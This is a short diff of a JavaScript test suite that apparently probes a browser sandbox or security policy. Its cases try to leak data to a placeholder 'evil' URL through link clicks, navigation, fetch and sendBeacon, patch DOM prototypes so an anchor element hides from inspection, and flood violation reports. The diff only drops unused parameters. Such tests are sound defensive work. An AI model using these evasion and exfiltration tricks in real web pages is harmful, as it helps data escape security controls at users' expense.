@@ -251,14 +251,13 @@ export default {
     add("a", { href: evil, target: "_blank" }).click();
     location = evil;
   },
-  "nodes and attributes": ({ add, evil }) => {
+  "nodes and attributes": ({ evil }) => {
     for (const name of ["localName", "namespaceURI", "shadowRoot"]) Object.defineProperty(Element.prototype, name, { get: () => "b" });
     for (const name of ["parentNode", "ownerDocument", "baseURI"]) Object.defineProperty(Node.prototype, name, { get: () => null });
     Element.prototype.getAttribute = Element.prototype.getAttributeNS = () => null;
     const a = document.createElement("a");
     a.href = evil;
     a.target = "_blank";
-    void add;
     a.click();
   },
   "a mutation's records": ({ evil }) => {
@@ -299,9 +298,8 @@ export default {
     for (let at = 0; at < 4; at++) try { navigator.sendBeacon(long + at, "x"); } catch {}
     try { fetch(evil, { mode: "no-cors" }).catch(() => {}); } catch {}
   },
-  "a storm of violations": ({ evil, send }) => {
+  "a storm of violations": ({ send }) => {
     for (let at = 0; at < 3_000; at++) navigator.sendBeacon(`http://127.0.0.1:1/${at}`, "x");
-    void evil;
     send();
   },
 };
